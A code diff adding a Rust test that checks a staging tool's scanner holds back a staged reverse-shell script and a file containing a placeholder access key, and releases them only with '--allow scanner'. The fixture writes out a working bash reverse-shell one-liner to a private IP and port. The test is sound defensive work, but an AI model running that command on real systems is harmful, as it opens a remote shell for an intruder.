@@ -747,3 +747,36 @@ fn staged_changes_are_bounded_by_size_and_age() {
         "the old stage was removed"
     );
 }
+
+/// Layer: the promotion's `scanner` rule (cordon-codescan's rules and the
+/// secret formats of cordon-scan). A staged reverse shell and a file
+/// holding an access key are held back naming the rule; a plain file
+/// passes; `--allow scanner` promotes them.
+#[test]
+fn scanner_findings_hold_files_back() {
+    if !staging_available() {
+        return;
+    }
+    let f = Fixture::new();
+    let (o, id) = f.staged(
+        "echo 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1' > connect.sh && \
+         echo 'key = \"AKIAQWERTYUIOPASDFGH\"' > settings.toml && echo 'print(1)' > ok.py",
+    );
+    assert_eq!(o.code, 0, "{}", o.stderr);
+    let (code, err) = f.promote(&id, &[]);
+    assert_eq!(code, 125, "{err}");
+    assert!(
+        err.contains("connect.sh") && err.contains("settings.toml"),
+        "{err}"
+    );
+    assert!(
+        err.contains("--allow scanner") && !err.contains("ok.py"),
+        "{err}"
+    );
+    let (code, err) = f.promote(&id, &["ok.py"]);
+    assert_eq!(code, 0, "{err}");
+    assert!(!f.repo.join("connect.sh").exists());
+    let (code, err) = f.promote(&id, &["--allow", "scanner"]);
+    assert_eq!(code, 0, "{err}");
+    assert!(f.repo.join("connect.sh").exists() && f.repo.join("settings.toml").exists());
+}
